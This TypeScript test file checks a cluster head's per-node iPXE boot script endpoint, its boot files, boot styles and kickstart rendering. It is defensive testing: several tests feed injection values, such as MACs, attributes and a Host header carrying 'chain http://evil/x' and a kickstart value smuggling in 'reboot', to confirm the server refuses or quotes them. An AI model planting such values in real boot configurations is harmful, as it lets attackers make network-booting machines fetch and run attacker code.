// GET /boot/ipxe?mac=…: the per-node iPXE script a real head serves, from the node's _boot_config,
// and the retry scripts for nodes that cannot boot yet.
import test from 'ava';
import { readFileSync } from 'node:fs';
import { pino } from 'pino';
import { DEBIAN_IPXE_DIR, DEBIAN_IPXE_FILES, importIpxeBinaries } from '../src/boot/ipxe-binaries.js';
import { startTestHead, type TestHead } from './helpers/head.js';
import { rawRequest } from './helpers/http-raw.js';

async function script(h: TestHead, mac: string): Promise<{ status: number; type: string | null; text: string }> {
  const res = await fetch(`${h.base.replace('/api/v1', '')}/boot/ipxe?mac=${mac}`);
  return { status: res.status, type: res.headers.get('content-type'), text: await res.text() };
}

async function upload(h: TestHead, token: string, uid: string, slot: string, bytes: Buffer): Promise<void> {
  const res = await fetch(`${h.base}/bootconfig/${uid}/${slot}`, { method: 'PUT', headers: { authorization: `Bearer ${token}` }, body: new Uint8Array(bytes) });
  if (res.status !== 200) throw new Error(`upload ${slot}: ${res.status} ${await res.text()}`);
}

test('a node with a complete boot config gets kernel (initrd= named), initramfs and its substituted command line', async (t) => {
  const h = await startTestHead(t);
  const { access_token: token } = await h.login();
  const created = await h.call('POST', '/bootconfigs', { token, body: { name: 'rocky', boot_style: 'disked', kickstart: 'rocky.ks', cmdline: 'console=<console> nodename=<name> keep=<nosuch>' } });
  t.is(created.status, 200, JSON.stringify(created.json));
  const uid = created.json.data as string;
  await h.call('POST', '/nodes', { token, body: { mac: '52:54:00:12:34:57', attributes: { _boot_config: 'rocky', console: 'ttyS0,115200' } } });
  await h.call('POST', '/nodes', { token, body: { mac: '52:54:00:12:34:58', attributes: { _boot_config: 'nosuch' } } });

  // Files missing: the node is told why and retries.
  let reply = await script(h, '52:54:00:12:34:57');
  t.is(reply.status, 200);
  t.regex(reply.text, /^#!ipxe\n/);
  t.regex(reply.text, /echo keel: node n0: boot config rocky: no kernel; no initramfs\n/);
  t.regex(reply.text, /sleep 30\nchain --replace --autofree http:\/\/127\.0\.0\.1:\d+\/boot\/ipxe\?mac=52:54:00:12:34:57\n/);

  await upload(h, token, uid, 'kernel', Buffer.from('kernel bytes'));
  await upload(h, token, uid, 'initramfs', Buffer.from('initramfs bytes'));
  reply = await script(h, '52-54-00-12-34-57');
  t.is(reply.type, 'text/plain; charset=utf-8');
  // URLs use the Host the node asked with.
  const head = h.base.replace('/api/v1', '');
  const base = `${head}/boot/bootconfig/${uid}`;
  t.true(reply.text.includes(`\nkernel ${base}/kernel initrd=initrd.img console=ttyS0,115200 nodename=n0 keep=<nosuch> inst.ks=${head}/api/v1/bootconfig/${uid}/kickstart\n`), reply.text);
  t.true(reply.text.includes(`\ninitrd --name initrd.img ${base}/initramfs\nboot\n`), reply.text);
  // The URLs in the script serve the files.
  const kernel = await fetch(`${h.base.replace('/api/v1', '')}/boot/bootconfig/${uid}/kernel`);
  t.is(await kernel.text(), 'kernel bytes');

  t.regex((await script(h, '52:54:00:12:34:58')).text, /_boot_config names boot config nosuch, which does not exist/);
  t.regex((await script(h, '52:54:00:00:00:99')).text, /no node has MAC 52:54:00:00:00:99/);
  // Strict: anything but a MAC is refused, and nothing of it reaches a script.
  for (const bad of ['garbage', '52:54:00:12:34:57%0Akernel%20http://evil/x', '52:54:00:12:34:57%20;%20chain%20http://evil/x']) {
    const refused = await script(h, bad);
    t.is(refused.status, 400, bad);
    t.regex(JSON.parse(refused.text).reason, /Malformed \?mac=: expected a MAC address/);
  }
});

test('rwram without an image is a retry; next and sanboot need no files', async (t) => {
  const h = await startTestHead(t);
  const { access_token: token } = await h.login();
  await h.call('POST', '/bootconfigs', { token, body: { name: 'ram', boot_style: 'rwram' } });
  const uid = (await h.call('POST', '/bootconfigs', { token, body: { name: 'ram2' } })).json.data as string;
  await upload(h, token, uid, 'kernel', Buffer.from('k'));
  await upload(h, token, uid, 'initramfs', Buffer.from('i'));
  await h.call('POST', '/bootconfigs', { token, body: { name: 'disk', boot_style: 'sanboot' } });
  await h.call('POST', '/bootconfigs', { token, body: { name: 'nxt', boot_style: 'next' } });
  await h.call('POST', '/nodes', { token, body: { mac: '02:00:00:00:00:01', attributes: { _boot_config: 'ram2' } } });
  await h.call('POST', '/nodes', { token, body: { mac: '02:00:00:00:00:02', attributes: { _boot_config: 'disk' } } });
  await h.call('POST', '/nodes', { token, body: { mac: '02:00:00:00:00:03', attributes: { _boot_config: 'nxt' } } });
  t.regex((await script(h, '02:00:00:00:00:01')).text, /boot config ram2: boot_style rwram needs an image with content\n/);
  t.regex((await script(h, '02:00:00:00:00:02')).text, /\nsanboot --no-describe --drive 0x80\n/);
  t.regex((await script(h, '02:00:00:00:00:03')).text, /\nexit\n/);
  // /errors gives the same answer: what these styles do not load is not missing.
  t.is((await h.call('GET', '/bootconfig/disk/errors', { token })).status, 200);
  t.is((await h.call('GET', '/bootconfig/nxt/errors', { token })).status, 200);
  t.is((await h.call('GET', '/bootconfig/ram2/errors', { token })).json.reason, 'Boot config ram2: boot_style rwram needs an image with content');
});

test('rwram and roram: dracut\'s root=live: line plus keel\'s own parameters for keel\'s initramfs and node agent', async (t) => {
  const h = await startTestHead(t);
  const { access_token: token } = await h.login();
  const image = (await h.call('POST', '/images', { token, body: { name: 'root' } })).json.data as string;
  const put = await fetch(`${h.base}/image/${image}/content`, { method: 'PUT', headers: { authorization: `Bearer ${token}` }, body: new Uint8Array(Buffer.from('hsqs image bytes')) });
  t.is(put.status, 200);
  const rw = (await h.call('POST', '/bootconfigs', { token, body: { name: 'rw', boot_style: 'rwram', image: 'root', cmdline: 'console=ttyS0,115200' } })).json.data as string;
  const ro = (await h.call('POST', '/bootconfigs', { token, body: { name: 'ro', boot_style: 'roram', image: 'root' } })).json.data as string;
  for (const uid of [rw, ro]) {
    await upload(h, token, uid, 'kernel', Buffer.from('k'));
    await upload(h, token, uid, 'initramfs', Buffer.from('i'));
  }
  t.is((await h.call('PATCH', '/cluster', { token, body: { status_period: 15 } })).status, 200);
  await h.call('POST', '/nodes', { token, body: { mac: '02:00:00:00:00:21', attributes: { _boot_config: 'rw' } } });
  await h.call('POST', '/nodes', { token, body: { mac: '02:00:00:00:00:22', attributes: { _boot_config: 'ro', _image_fetch: 'whole' } } });
  const node3 = (await h.call('POST', '/nodes', { token, body: { mac: '02:00:00:00:00:23', attributes: { _boot_config: 'ro', _image_fetch: 'torrent' } } })).json.data as string;
  const head = h.base.replace('/api/v1', '');
  const kernelLine = (text: string) => text.split('\n').find((line) => line.startsWith('kernel ')) ?? text;

  t.is(kernelLine((await script(h, '02:00:00:00:00:21')).text), `kernel ${head}/boot/bootconfig/${rw}/kernel initrd=initrd.img console=ttyS0,115200 `
    + `root=live:${head}/boot/bootconfig/${rw}/image rd.live.ram=1 rd.live.overlay.overlayfs=1 `
    + `keel.image=${head}/boot/image/${image} keel.root=rwram keel.fetch=chunks `
    + `keel.boot_config=${rw} keel.api=${head}/api/v1 keel.status_period=15 BOOTIF=01-02-00-00-00-00-21`, 'chunks by default');
  t.is(kernelLine((await script(h, '02:00:00:00:00:22')).text), `kernel ${head}/boot/bootconfig/${ro}/kernel initrd=initrd.img `
    + `root=live:${head}/boot/bootconfig/${ro}/image rd.live.ram=1 rd.live.overlay.readonly=1 `
    + `keel.image=${head}/boot/image/${image} keel.root=roram keel.fetch=whole `
    + `keel.boot_config=${ro} keel.api=${head}/api/v1 keel.status_period=15 BOOTIF=01-02-00-00-00-00-22`, '_image_fetch chooses');
  t.regex((await script(h, '02:00:00:00:00:23')).text, /echo keel: node n2: attribute _image_fetch is "torrent": expected one of chunks, whole\n/);
  // The image URL on the line serves the image, and its manifest the chunk list keel-fetch reads.
  t.is(await (await fetch(`${head}/boot/image/${image}`)).text(), 'hsqs image bytes');
  const manifest = (await (await fetch(`${head}/boot/image/${image}/manifest`)).json()) as { size: number; chunks: string[] };
  t.like(manifest, { size: 16 });
  t.is(manifest.chunks.length, 1);
  await h.call('PATCH', `/node/${node3}/attributes`, { token, body: { _image_fetch: 'chunks' } });
  t.regex(kernelLine((await script(h, '02:00:00:00:00:23')).text), / keel\.fetch=chunks /);
});

test('Debian iPXE binaries are imported once as tftp/<name> and served at /boot/firmware/<name>', async (t) => {
  const h = await startTestHead(t);
  const { access_token: token } = await h.login();
  const missing = async () => ((await h.call('GET', '/cluster', { token })).json.data as { ipxe_binaries_missing: string[] }).ipxe_binaries_missing;
  // The test head imports nothing at start: it says so at start and in /cluster.
  t.deepEqual(await missing(), ['undionly.kpxe', 'ipxe.efi', 'ipxe-arm64.efi']);
  const headUid = ((await h.call('GET', '/cluster', { token })).json.data as { heads: { uid: string }[] }).heads[0]!.uid;
  const log = (await h.call('GET', `/cluster/head/${headUid}/log?lines=1000`, { token })).json.data as { lines: unknown[] };
  t.true(JSON.stringify(log.lines).includes('iPXE binaries missing'), 'a warning at start');
  const chunks = h.head.model.chunks;
  const imported = await importIpxeBinaries(chunks, pino({ level: 'silent' }));
  t.deepEqual(imported, [...DEBIAN_IPXE_FILES], 'the ipxe package is installed (.ci/run)');
  t.deepEqual(await importIpxeBinaries(chunks, pino({ level: 'silent' })), [], 'nothing is imported twice');
  t.deepEqual(await missing(), ['ipxe-arm64.efi'], 'Debian ships no ARM64 iPXE');
  const res = await fetch(`${h.base.replace('/api/v1', '')}/boot/firmware/undionly.kpxe`);
  t.is(res.status, 200);
  t.true(Buffer.from(await res.arrayBuffer()).equals(readFileSync(`${DEBIAN_IPXE_DIR}/undionly.kpxe`)));
});

test('values go into a script or a kickstart as data: what iPXE or the shell would run is refused or quoted', async (t) => {
  const h = await startTestHead(t);
  const { access_token: token } = await h.login();
  const uid = (await h.call('POST', '/bootconfigs', { token, body: { name: 'esc', boot_style: 'disked', kickstart: 'esc.ks', cmdline: 'console=<console> extra=<extra>' } })).json.data as string;
  await upload(h, token, uid, 'kernel', Buffer.from('k'));
  await upload(h, token, uid, 'initramfs', Buffer.from('i'));
  const node = (await h.call('POST', '/nodes', { token, body: { mac: '02:00:00:00:00:11', attributes: { _boot_config: 'esc', console: 'ttyS0' } } })).json.data as string;
  const withExtra = async (extra: string) => {
    t.is((await h.call('PATCH', `/node/${node}/attributes`, { token, body: { extra } })).status, 200);
    return (await script(h, '02:00:00:00:00:11')).text;
  };
  const commands = (text: string) => text.split('\n').filter((line) => !line.startsWith('echo '));

  t.regex(await withExtra('quiet splash'), /\nkernel \S+ initrd=initrd.img console=ttyS0 extra=quiet splash inst.ks=/, 'spaces separate kernel arguments');
  for (const [extra, why] of [
    ['x ; chain http://evil/x', 'contains the word ;'],
    ['x || chain http://evil/x', 'contains the word ||'],
    ['x\nchain http://evil/x', 'contains a line break'],
    ['${net0/ip}', 'contains $ {, which iPXE expands'],
  ] as const) {
    const text = await withExtra(extra);
    t.regex(text, /\nsleep 30\nchain --replace --autofree http:\/\/[^\n]+\/boot\/ipxe\?mac=02:00:00:00:00:11\n$/, extra);
    t.true(text.includes(`boot config esc: the value of <extra> cannot go into an iPXE script: it ${why}`), text);
    t.false(commands(text).some((line) => line.includes('evil') || line.includes('${')), text);
  }

  // The Host header makes the script's URLs only when it is a host[:port].
  const port = new URL(h.base).port;
  const forged = await rawRequest(`http://127.0.0.1:${port}/boot/ipxe?mac=02:00:00:00:00:11`, { headers: { host: 'evil ; chain http://evil/x' } });
  t.false(forged.body.toString().includes('evil'), forged.body.toString());
  t.regex(forged.body.toString(), /\nchain --replace --autofree http:\/\/127\.0\.0\.1:\d+\/boot\/ipxe\?mac=02:00:00:00:00:11\n/, 'the configured address instead');

  // A kickstart gets shell words: plain values as they are, others in single quotes; a line break is refused.
  const ks = await fetch(`${h.base}/kickstart/esc.ks`, { method: 'PUT', headers: { authorization: `Bearer ${token}` }, body: 'network --hostname=<name>\n%post\necho <extra> > /etc/extra\n%end\n' });
  t.is(ks.status, 200);
  const render = () => fetch(`${h.base}/bootconfig/esc/kickstart?node=${node}`, { headers: { authorization: `Bearer ${token}` } });
  await withExtra(`it's; reboot`);
  t.is(await (await render()).text(), `network --hostname=n0\n%post\necho 'it'\\''s; reboot' > /etc/extra\n%end\n`);
  await withExtra('x\n%pre\nreboot');
  const refused = await render();
  t.is(refused.status, 400);
  t.is(((await refused.json()) as { reason: string }).reason, 'The value of <extra> cannot go into a kickstart: it contains a line break or another control character');
});
